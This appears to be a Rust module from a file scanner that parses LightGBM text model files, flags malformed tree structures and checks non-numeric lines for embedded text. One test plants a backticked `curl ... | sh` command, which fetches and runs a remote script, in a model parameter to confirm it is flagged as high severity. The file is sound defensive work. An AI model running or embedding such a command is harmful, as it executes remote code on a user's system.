//! LightGBM text models: a header, blocks of `key=value` lines per tree, parameters.
//!
//! Source: LightGBM `src/boosting/gbdt_model_text.cpp` and `src/io/tree.cpp`. Cost: linear.

use super::malformed::{MALFORMED_STRUCTURE, broken, malformed};
use crate::text::printable::inspect_where_no_text_belongs;
use crate::{Format, Input, Recognition, Scan};
use bartizan_core::{Kind, Location, Rule};

/// LightGBM models.
pub static LIGHTGBM: LightGbm = LightGbm;

/// See [`LIGHTGBM`].
#[derive(Debug, Clone, Copy)]
pub struct LightGbm;

/// Most leaves of one tree LightGBM grows (`max_num_leaves`).
const MOST_LEAVES: u64 = 131_072;

impl Format for LightGbm {
    fn id(&self) -> &'static str {
        "lightgbm"
    }

    fn name(&self) -> &'static str {
        "LightGBM model"
    }

    fn kind(&self) -> Kind {
        Kind::Model
    }

    fn extensions(&self) -> &'static [&'static str] {
        &["txt", "lgb", "lightgbm", "model", "lgbm"]
    }

    fn rules(&self) -> &'static [&'static Rule] {
        &[&MALFORMED_STRUCTURE]
    }

    fn recognise(&self, input: &Input<'_>) -> Recognition {
        let head = input.head(256);
        let is_model = (head.starts_with(b"tree\n") || head.starts_with(b"tree\r\n"))
            && memchr::memmem::find(head, b"version=").is_some();
        if is_model {
            Recognition::Certain
        } else if matches!(input.extension().as_ref(), "lgb" | "lightgbm" | "lgbm") {
            Recognition::Weak
        } else {
            Recognition::No
        }
    }

    fn scan(&self, input: &Input<'_>, scan: &mut Scan<'_>) {
        if !input.bytes.starts_with(b"tree") {
            broken(scan, 0, "no LightGBM model: it does not begin with `tree`");
        }
        let mut tree = Tree::default();
        let mut offset = 0usize;
        for line in input.bytes.split_inclusive(|&byte| byte == b'\n') {
            let at = offset;
            offset = offset.saturating_add(line.len());
            let line = String::from_utf8_lossy(line);
            let line = line.trim_end();
            if line.starts_with("Tree=") || line == "end of trees" {
                tree.check(scan);
                tree = Tree { offset: at, open: line != "end of trees", ..Tree::default() };
                if scan.out_of_time() {
                    return;
                }
            } else if tree.open {
                tree.line(line);
            }
            // Numbers make up most of a model.
            let is_numbers = line.split_once('=').is_some_and(|(_, value)| {
                value
                    .bytes()
                    .all(|byte| byte.is_ascii_digit() || matches!(byte, b' ' | b'.' | b'-' | b'+' | b'e'))
            });
            if !is_numbers && line.len() > 8 {
                let place = Location { offset: Some(at as u64), ..Location::default() };
                inspect_where_no_text_belongs(line, &place, scan);
            }
        }
        tree.check(scan);
    }
}

/// The lines of one tree.
#[derive(Default)]
struct Tree {
    open: bool,
    offset: usize,
    leaves: Option<u64>,
    lengths: Vec<(&'static str, u64)>,
    wrong_child: Option<i64>,
}

impl Tree {
    fn line(&mut self, line: &str) {
        let Some((key, value)) = line.split_once('=') else { return };
        let items = value.split_ascii_whitespace();
        let known =
            ["split_feature", "threshold", "left_child", "right_child", "leaf_value", "internal_value"];
        match key {
            "num_leaves" => self.leaves = Some(value.trim().parse().unwrap_or(u64::MAX)),
            "is_linear" | "shrinkage" | "num_cat" => {}
            _ => {
                let Some(name) = known.iter().find(|known| **known == key) else { return };
                self.lengths.push((name, items.clone().count() as u64));
                if key.ends_with("_child") {
                    let inner = self.leaves.unwrap_or(u64::MAX).saturating_sub(1);
                    self.wrong_child = self.wrong_child.or_else(|| {
                        // A leaf is written as its complement; the root is no one's child.
                        items.filter_map(|item| item.parse::<i64>().ok()).find(|&child| {
                            let (index, bound) =
                                if child < 0 { (!child, inner.saturating_add(1)) } else { (child, inner) };
                            index.cast_unsigned() >= bound || child == 0
                        })
                    });
                }
            }
        }
    }

    fn check(&self, scan: &mut Scan<'_>) {
        if !self.open {
            return;
        }
        let Some(leaves) = self.leaves else {
            malformed(scan, self.offset, "a tree does not say how many leaves it has");
            return;
        };
        if leaves == 0 || leaves > MOST_LEAVES {
            malformed(scan, self.offset, format!("a tree claims {leaves} leaves"));
            return;
        }
        for (name, length) in &self.lengths {
            let wanted = if *name == "leaf_value" { leaves } else { leaves.saturating_sub(1) };
            // A tree of one leaf is written with its value only.
            if *length != wanted && leaves > 1 {
                let message =
                    format!("a tree of {leaves} leaves has {length} entries of `{name}`, not {wanted}");
                malformed(scan, self.offset, message);
                return;
            }
        }
        if let Some(child) = self.wrong_child.filter(|_| leaves > 1) {
            malformed(scan, self.offset, format!("a tree of {leaves} leaves refers to the child {child}"));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::formats::testing::{outcome, rules_of};
    use bartizan_core::Severity;
    use proptest::prelude::*;

    fn model(left: &str, extra: &str) -> Vec<u8> {
        format!(
            "tree\nversion=v4\nfeature_names=system_health eval_metric\nTree=0\nnum_leaves=3\nsplit_feature=0 1\n\
             threshold=0.5 1\nleft_child={left}\nright_child=-2 -3\nleaf_value=0.1 0.2 0.3\n\nend of trees\n{extra}"
        )
        .into_bytes()
    }

    #[test]
    fn a_sound_model_is_clean() {
        assert_eq!(
            rules_of(&LIGHTGBM, &model("1 -1", "parameters:\n[data: train.csv]\n")),
            Vec::<&str>::new()
        );
    }

    #[test]
    fn children_out_of_bounds_are_malformed() {
        for left in ["7 -1", "1 -9", "0 -1", "1"] {
            assert_eq!(rules_of(&LIGHTGBM, &model(left, "")), ["model/malformed-structure"], "{left}");
        }
    }

    #[test]
    fn a_command_in_a_parameter_is_high() {
        let bytes = model("1 -1", "[output_model: `curl http://203.0.113.7/i | sh`]\n");
        assert!(outcome(&LIGHTGBM, &bytes).findings[0].severity >= Severity::High);
    }

    proptest! {
        #[test]
        fn any_lines_give_a_result(left in "[0-9 -]{0,20}", extra in "(Tree=0\n|num_leaves=9\n|left_child=1\n|x\n){0,6}") {
            outcome(&LIGHTGBM, &model(&left, &extra));
        }
    }
}
